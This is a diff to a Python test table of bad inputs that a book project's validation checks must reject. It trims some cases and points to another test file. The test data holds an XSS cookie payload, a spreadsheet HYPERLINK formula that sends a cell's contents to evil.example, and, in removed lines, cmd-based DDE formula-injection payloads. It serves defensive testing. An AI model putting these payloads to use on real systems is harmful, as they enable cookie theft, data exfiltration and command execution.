@@ -327,10 +327,8 @@ BAD_INPUTS: dict[str, Callable[[Path], Expect]] = {
     "a renamed key column the build reads by name": renamed_key_column,
     "a resource path outside data/": resource_path_outside_data,
     "resources that are not a list": resources_not_a_list,
-    # inputs that used to pass the check and crash the build
+    # inputs that used to pass the check and crash the build (NaN and -Infinity: tests/checks/test_cells.py)
     "inf in a number column": infinite_number,
-    "NaN in a number column": lambda book: infinite_number(book, "NaN"),
-    "-Infinity in a number column": lambda book: infinite_number(book, "-Infinity"),
     "an unknown BibTeX entry type": unknown_entry_type,
     # untrusted text that would become active content
     "raw <script> in a chapter": raw_html("<script>alert(document.cookie)</script>", "<script> runs code"),
@@ -362,16 +360,11 @@ BAD_INPUTS: dict[str, Callable[[Path], Expect]] = {
     "a source check in a {toggle}": hidden_source_check("::::{toggle}\n", "::::\n"),
     "a source check in a closed tab": hidden_source_check("::::{tab-set}\n:::::{tab-item} More\n", ":::::\n::::\n"),
     "a source check in a class that hides": hidden_source_check("::::{div}\n:class: d-none\n", "::::\n"),
-    # text hygiene
-    "a NUL in a cell": control_character("\x00", "U+0000"),
-    "an escape character in a cell": control_character("\x1b", "U+001B"),
-    "a right-to-left override in a cell": control_character("\u202e", "U+202E RIGHT-TO-LEFT OVERRIDE"),
+    # text hygiene: one case of each rule here, every character and formula where the rule lives
+    # (tests/checks/test_cells.py)
     "a zero-width space in a cell": control_character("\u200b", "U+200B ZERO WIDTH SPACE"),
-    "a zero-width joiner in a cell": control_character("\u200d", "U+200D"),
     "two glossary keys that look identical": look_alike_key,
     "a =HYPERLINK formula in a cell": formula('=HYPERLINK("https://evil.example/?d="&A1,"Click")'),
-    "a +cmd formula in a cell": formula("+cmd|' /C calc'!A0"),
-    "an @SUM formula in a cell": formula("@SUM(1+1)*cmd|' /C calc'!A0"),
     "a CSV the data package does not describe": undescribed_csv,
     # chapters that would go stale: reading data past the toolkit
     "pd.read_csv on data/ in a chapter": direct_read("frame = pd.read_csv('../data/glossary.csv')",
